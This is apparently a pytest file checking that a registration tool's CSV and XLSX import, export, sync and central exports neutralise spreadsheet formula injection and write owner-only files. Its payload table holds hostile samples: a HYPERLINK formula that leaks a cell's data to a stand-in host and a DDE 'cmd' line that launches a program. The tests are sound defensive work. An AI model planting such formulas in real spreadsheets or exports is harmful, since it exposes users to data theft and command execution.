"""Formula payloads in free-text fields, round-tripped through `loket import`, `loket export`
(CSV and XLSX), a sync and the centre's exports: no CSV cell a spreadsheet would run, no XLSX
formula, owner-only files, and an export that imports again unchanged."""

from __future__ import annotations

import csv
import shutil
import stat
import zipfile
from pathlib import Path

import pytest

from bench.datagen import generate_rows
from domain.spreadsheet_cells import TRIGGERS, neutralise, restore
from local_db.store import open_store
from tests.central_service.support import cli as central_cli
from tests.central_service.support import nik
from tests.conftest import cheap_hasher, valid_candidate
from tests.desktop_app.cli_helpers import csv_text, loket, read_rejects
from tests.sync.support import Central
from tests.sync.test_cli import enrolled
from tests.sync.workload import OP, attendance_fields, session_fields

PAYLOADS = {
    "address_line": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "job_position": "+cmd|' /C calc'!A0",
    "heir_name": "@SUM(1)",
    "birth_place": "-2+3",
}


def dangerous(cell: str) -> bool:
    return cell.startswith(TRIGGERS)


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def assert_neutralised(rows: list[dict[str, str]]) -> None:
    for row in rows:
        assert not any(dangerous(cell) for cell in row.values()), row
        assert {c: row[c] for c in PAYLOADS} == {c: "'" + p for c, p in PAYLOADS.items()}


def assert_no_formula(xlsx: Path) -> None:
    with zipfile.ZipFile(xlsx) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(book.read(n).decode("utf-8") for n in sheets)
        shared = (
            book.read("xl/sharedStrings.xml").decode("utf-8")
            if "xl/sharedStrings.xml" in book.namelist()
            else ""
        )
    assert "<f>" not in xml and "<f " not in xml  # no formula cell
    assert "HYPERLINK" in shared + xml  # the text is there, as text


def owner_only(path: Path) -> bool:
    return stat.S_IMODE(path.stat().st_mode) == 0o600


@pytest.mark.parametrize(
    "value",
    [
        "=1",
        "+62",
        "-",
        "@x",
        "\tx",
        "\rx",
        "'=1",
        "''+x",
        "'",
        "'s-Hertogenbosch",
        "O'Brien",
        "",
        "plain",
        "''",
    ],
)
def test_the_rule_is_lossless_and_leaves_no_cell_a_spreadsheet_runs(value: str) -> None:
    written = neutralise(value)
    assert not dangerous(written)
    assert restore(written) == value
    if not value.lstrip("'").startswith(TRIGGERS):
        assert written == value  # only formula-like cells change


@pytest.mark.slow  # the real commands several times, and the centre's
def test_formulas_round_trip_neutralised_through_import_export_sync_and_the_centre(
    central: Central, data_dir: Path, template_db: Path, tmp_path: Path
) -> None:
    rows = [{**row, **PAYLOADS} for row in generate_rows(3, seed=41)]
    source = tmp_path / "in.csv"
    source.write_text(csv_text(rows), encoding="utf-8")
    imported = loket(data_dir, "import", "candidates", str(source))
    assert imported.code == 0, imported.err + imported.out

    exported = tmp_path / "out.csv"
    assert loket(data_dir, "export", "candidates", str(exported)).code == 0
    assert owner_only(exported)
    out_rows = read_csv(exported)
    assert len(out_rows) == 3
    assert_neutralised(out_rows)

    # The export imports again into another office PC, every value as it was.
    fresh = tmp_path / "fresh"
    fresh.mkdir(mode=0o700)
    shutil.copy(template_db, fresh / "loket.db")
    reimported = loket(fresh, "import", "candidates", str(exported))
    assert reimported.code == 0, reimported.err + reimported.out
    again = tmp_path / "again.csv"
    assert loket(fresh, "export", "candidates", str(again)).code == 0
    for before, after in zip(out_rows, read_csv(again), strict=True):
        # every value as it was; a registration number is given by the PC that registers
        assert {k for k, v in after.items() if v != before[k]} <= {"registration_no"}

    xlsx = tmp_path / "out.xlsx"
    assert loket(data_dir, "export", "candidates", str(xlsx)).code == 0
    assert owner_only(xlsx)
    assert_no_formula(xlsx)

    office = central.new_office()
    enrolled(data_dir, central, office)
    synced = loket(data_dir, "sync")
    assert synced.code == 0, synced.err + synced.out
    at_centre = tmp_path / "centre.csv"
    central_cli(central.db_url, "export", "candidates", "--office", office, str(at_centre))
    assert owner_only(at_centre)
    centre_rows = read_csv(at_centre)
    assert len(centre_rows) == 3
    assert_neutralised(centre_rows)


def test_rejects_file_neutralises_a_formula_column_name_and_is_owner_only(
    data_dir: Path, tmp_path: Path
) -> None:
    rows = list(generate_rows(2, seed=42))
    columns = (*rows[0].keys(), '=HYPERLINK("x")')
    path = tmp_path / "typo.csv"
    path.write_text(csv_text(rows, columns=columns), encoding="utf-8")
    result = loket(data_dir, "import", "candidates", str(path))
    assert result.code == 2
    rejects = path.with_name(path.name + ".rejects.csv")
    assert owner_only(rejects)
    assert read_rejects(path)[0]["column"] == '\'=hyperlink("x")'
    path.write_text(csv_text([{**rows[0], "nik": "=1+1"}, rows[1]]), encoding="utf-8")
    result = loket(data_dir, "import", "candidates", str(path))
    assert result.code == 1, result.err + result.out
    assert owner_only(rejects)
    with rejects.open(encoding="utf-8-sig", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert not any(dangerous(cell) for cell in cells)
    assert read_rejects(path)[0]["column"] == "nik"


@pytest.mark.slow  # the real commands several times
def test_the_centre_exports_attendance_owner_only_with_the_fixed_columns(
    central: Central, data_dir: Path, tmp_path: Path
) -> None:
    store = open_store(data_dir / "loket.db", data_dir / "backups", hasher=cheap_hasher())
    try:
        person = store.candidates.create(valid_candidate(nik=nik()), OP).record
        session = store.sessions.create(session_fields("@OPP-1", title="=HYPERLINK(1)", venue="-Aula"), OP)
        store.attendance.create(attendance_fields(session.id, person.id), OP)
    finally:
        store.close()
    desk_export = tmp_path / "desk-attendance.csv"
    assert loket(data_dir, "export", "attendance", str(desk_export)).code == 0
    assert owner_only(desk_export)
    desk_rows = read_csv(desk_export)
    assert [(r["session_code"], r["session_title"]) for r in desk_rows] == [("'@OPP-1", "'=HYPERLINK(1)")]

    office = central.new_office()
    enrolled(data_dir, central, office)
    synced = loket(data_dir, "sync")
    assert synced.code == 0, synced.out + synced.err
    out = tmp_path / "attendance.csv"
    done = central_cli(central.db_url, "export", "attendance", "--office", office, str(out))
    assert "1 attendance records" in done.stdout
    assert owner_only(out)
    rows = read_csv(out)
    assert list(rows[0]) == [
        "session_code", "candidate_id", "registration_no", "nik", "status", "checked_in_at", "recorded_by",
    ]  # fmt: skip
    assert rows[0]["session_code"] == "'@OPP-1"
    assert (rows[0]["candidate_id"], rows[0]["nik"]) == (person.id, person.data["nik"])
